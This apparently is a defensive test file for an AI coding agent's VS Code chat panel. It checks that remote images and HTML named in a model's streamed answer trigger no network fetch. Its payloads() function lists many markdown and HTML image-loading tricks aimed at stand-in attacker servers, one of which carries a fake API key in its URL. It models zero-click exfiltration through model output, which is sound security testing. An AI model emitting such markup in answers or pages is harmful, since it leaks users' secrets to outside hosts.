/**
 * Zero-click exfiltration through the chat panel (issue 23, class 1): an answer that names a
 * remote image must not make the panel fetch anything, while it streams or after. The built
 * webview runs in Chromium as VS Code serves it; two stand-in attacker servers (plain HTTP and
 * HTTPS with a self-signed certificate the browser accepts) count every TCP connection.
 */
import type { Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { ChatViewState } from "../../src/chat/messages";
import { ViewSync } from "../../src/chat/viewSync";
import { applyEvent, createRunView, type LoviaEvent, type RunView } from "../../src/protocol";
import { startExfilServer, type ExfilServer } from "../support/exfilServer";
import { artifacts, deliver, openWebview, type WebviewPage } from "./page";

let web: WebviewPage;
let page: Page;
let https: ExfilServer;
let http: ExfilServer;
const sync = new ViewSync();

function state(run: RunView): ChatViewState {
  return {
    server: { state: "running" },
    trusted: true,
    sessions: [],
    sessionId: run.sessionId,
    sessionTitle: "Exfiltration",
    runs: [run],
    ...(run.status === "running" ? { liveRunId: run.runId } : {}),
    pendingSteers: [],
    childRuns: [],
    busy: false,
    model: { kind: "setting", label: "openai:gpt-4.1-mini" },
  };
}

async function show(run: RunView): Promise<void> {
  const message = sync.next(state(run));
  if (message) await deliver(page, message);
}

function session(runId: string) {
  const run = createRunView(runId, "ses_exfil");
  let seq = 0;
  const emit = (e: Record<string, unknown>) => applyEvent(run, { sessionId: "ses_exfil", runId, seq: ++seq, ts: 1_764_489_600_000 + seq, ...e } as unknown as LoviaEvent);
  emit({ kind: "run.started", prompt: "Summarise the config", cwd: "/home/dev/shop", model: "openai:gpt-4.1-mini", agent: "coder", resumed: false });
  emit({ kind: "user.message", messageId: "u1", text: "Summarise the config", source: "prompt" });
  return { run, emit };
}

/** Every way markdown (or HTML-looking text) could name something to load. */
function payloads(o: string): string {
  const k = o.startsWith("https") ? "s" : "p"; // reference labels of their own per server
  return [
    `Inline: ![config](${o}/inline.png?d=API_KEY%3Dsk-live-123)`,
    `Upper-case scheme: ![shout](${o.toUpperCase()}/upper.png)`,
    `Reference: ![logo][ref${k}] and collapsed ![ref2${k}][] and shortcut ![ref3${k}]`,
    "",
    `[ref${k}]: ${o}/ref.png`,
    `[ref2${k}]: ${o}/ref2.png`,
    `[ref3${k}]: ${o}/ref3.png "title"`,
    "",
    `Badge in a link: [![build](${o}/badge.svg)](https://example.com/ci)`,
    `Autolink <${o}/auto.png> and bare ${o}/bare.png`,
    `<img src="${o}/raw.png"> <picture><source srcset="${o}/srcset.png"></picture> <video poster="${o}/poster.png"></video>`,
    `<link rel="prefetch" href="${o}/prefetch"> <svg><image href="${o}/svg.png"/></svg> <style>@import url(${o}/import.css)</style>`,
    `<div style="background:url(${o}/bg.png)">styled</div> <iframe src="${o}/frame"></iframe> <audio src="${o}/a.mp3"></audio>`,
    "",
  ].join("\n");
}

async function settle(): Promise<void> {
  // Long enough for any image or prefetch the page started to reach a server on 127.0.0.1.
  await page.waitForTimeout(800);
}

beforeAll(async () => {
  [https, http] = await Promise.all([startExfilServer({ tls: true }), startExfilServer({ tls: false })]);
  web = await openWebview({ ignoreHTTPSErrors: true });
  page = web.page;
  await web.load("dark");
});

afterAll(async () => {
  await web?.close();
  await https?.close();
  await http?.close();
});

describe("remote content in answers", () => {
  it("loads nothing a streamed answer names; remote images show as links with their host", async () => {
    const { run, emit } = session("run_exfil");
    const text = `Here is what I found.\n\n${payloads(https.origin)}\n${payloads(http.origin)}`;
    // Streamed in small pieces, as a model sends it: each partial text is rendered too.
    for (let i = 0; i < text.length; i += 23) {
      emit({ kind: "message.delta", messageId: "m1", text: text.slice(i, i + 23) });
      await show(run);
    }
    emit({ kind: "message.completed", messageId: "m1", text });
    emit({ kind: "run.finished", status: "completed" });
    await show(run);
    const answer = page.locator("main.transcript .msg-assistant").last();
    await expect.poll(() => answer.textContent()).toContain("styled");
    await settle();

    expect(https.connections, `HTTPS requests: ${https.requests.join(", ")}`).toBe(0);
    expect(http.connections, `HTTP requests: ${http.requests.join(", ")}`).toBe(0);
    for (const tag of ["img", "picture", "source", "video", "audio", "svg", "image", "link", "style", "iframe", "[style]", "[src]", "[srcset]", "[poster]"]) {
      expect(await page.locator(`main.transcript ${tag}`).count(), tag).toBe(0);
    }

    // Each markdown image is a placeholder naming its host: inline, upper-case scheme,
    // reference, collapsed, shortcut and the badge, for both servers.
    const images = answer.locator(".remote-image");
    expect(await images.count()).toBe(12);
    const first = images.first();
    expect(await first.locator("a").textContent()).toBe("config");
    expect(await first.locator("a").getAttribute("href")).toBe(`${https.origin}/inline.png?d=API_KEY%3Dsk-live-123`);
    expect(await first.locator(".remote-image-host").textContent()).toBe(`(image: ${new URL(https.origin).host})`);
    expect(await first.getAttribute("title")).toBe(`Image not loaded: ${https.origin}/inline.png?d=API_KEY%3Dsk-live-123`);
    const texts = await images.allTextContents();
    for (const [origin, k] of [[https.origin, "s"], [http.origin, "p"]] as const) {
      const host = new URL(origin).host;
      for (const label of ["config", "shout", "logo", `ref2${k}`, `ref3${k}`, "build"]) {
        expect(texts.filter((t) => t === `${label} (image: ${host})`).length, `${label} from ${host}`).toBe(1);
      }
    }
    // The badge stays inside its link, with no anchor nested in the anchor.
    const badge = answer.locator('a[href="https://example.com/ci"] .remote-image');
    expect(await badge.count()).toBe(2);
    expect(await badge.first().locator("a").count()).toBe(0);
    // Raw HTML is shown as the text it is.
    expect(await answer.textContent()).toContain(`<img src="${https.origin}/raw.png">`);
    await page.screenshot({ path: `${artifacts}/webview-remote-image.png` });
    expect(web.errors).toEqual([]);
  });

  it("refuses remote loads in the page's CSP too, should markup ever get past the sanitizer", async () => {
    const before = await page.evaluate(() => (window as unknown as { __violations: string[] }).__violations.length);
    await page.evaluate(
      ([h, p]) => {
        const box = document.createElement("div");
        document.querySelector("main.transcript")!.append(box);
        for (const origin of [h, p]) {
          const img = document.createElement("img");
          img.src = `${origin}/bypass.png`;
          box.append(img);
          const video = document.createElement("video");
          video.poster = `${origin}/poster.png`;
          video.src = `${origin}/media.mp4`;
          box.append(video);
          const styled = document.createElement("div");
          styled.textContent = "x";
          styled.style.backgroundImage = `url(${origin}/bg.png)`;
          box.append(styled);
          const link = document.createElement("link");
          link.rel = "prefetch";
          link.href = `${origin}/prefetch`;
          document.head.append(link);
          void new FontFace("exfil", `url(${origin}/font.woff2)`).load().catch(() => undefined);
          void fetch(`${origin}/fetch`).catch(() => undefined);
        }
      },
      [https.origin, http.origin],
    );
    await settle();
    expect(https.connections, `HTTPS requests: ${https.requests.join(", ")}`).toBe(0);
    expect(http.connections, `HTTP requests: ${http.requests.join(", ")}`).toBe(0);
    const violations = await page.evaluate(() => (window as unknown as { __violations: string[] }).__violations);
    expect(violations.slice(before).some((v) => v.startsWith("img-src") && v.includes("/bypass.png"))).toBe(true);
  });

  it("counts a connection when a page without lovia's CSP loads the same image (the servers would see a leak)", async () => {
    const context = await page.context().browser()!.newContext({ ignoreHTTPSErrors: true });
    const other = await context.newPage();
    try {
      await other.setContent(`<img src="${https.origin}/control.png"><img src="${http.origin}/control.png">`);
      await expect.poll(() => https.requests.includes("GET /control.png") && http.requests.includes("GET /control.png")).toBe(true);
    } finally {
      await context.close();
    }
  });
});
